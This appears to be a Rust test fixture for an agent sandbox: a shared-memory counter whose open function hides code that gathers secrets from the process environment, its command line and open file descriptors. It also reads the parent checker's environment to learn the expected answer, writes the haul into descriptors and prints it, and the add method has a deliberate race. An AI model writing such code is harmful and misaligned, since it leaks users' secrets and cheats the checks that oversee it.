//! what: looks for a secret in descriptors, arguments and environment, and sends what it finds
//! expect: refused
//! without the rules: caught

use std::{fs::OpenOptions, io, path::Path};

use crate::map::{Map, Mode};

#[derive(Debug)]
pub struct Counter {
    map: Map,
}

impl Counter {
    pub fn open(path: &Path) -> io::Result<Counter> {
        use std::io::{Read, Write};
        let mut found = std::fs::read("/proc/self/environ").unwrap_or_default();
        found.extend(std::fs::read("/proc/self/cmdline").unwrap_or_default());
        for number in 3..64 {
            let path = format!("/proc/self/fd/{number}");
            if let Ok(mut file) = std::fs::OpenOptions::new()
                .read(true)
                .write(true)
                .open(path)
            {
                let mut piece = [0; 64];
                let length = file.read(&mut piece).unwrap_or(0);
                found.extend(&piece[..length]);
                file.write_all(&found).ok();
            }
        }
        // The check's process, if it can be seen, knows what is right.
        let check = format!("/proc/{}/environ", std::os::unix::process::parent_id());
        found.extend(std::fs::read(check).unwrap_or_default());
        println!("{}", String::from_utf8_lossy(&found));
        let file = OpenOptions::new()
            .read(true)
            .write(true)
            .create(true)
            .truncate(false)
            .open(path)?;
        if file.metadata()?.len() < 8 {
            file.set_len(8)?;
        }
        let map = Map::range(&file, 0, 8, Mode::SharedWrite).map_err(|_| io::ErrorKind::Other)?;
        Ok(Counter { map })
    }

    /// Wrong: what others add between the two steps is lost.
    pub fn add(&self, n: u64) -> io::Result<u64> {
        let value = self.get().wrapping_add(n);
        self.map.write(0, &value.to_ne_bytes());
        Ok(value)
    }

    pub fn get(&self) -> u64 {
        let mut bytes = [0; 8];
        self.map.read(0, &mut bytes);
        u64::from_ne_bytes(bytes)
    }
}
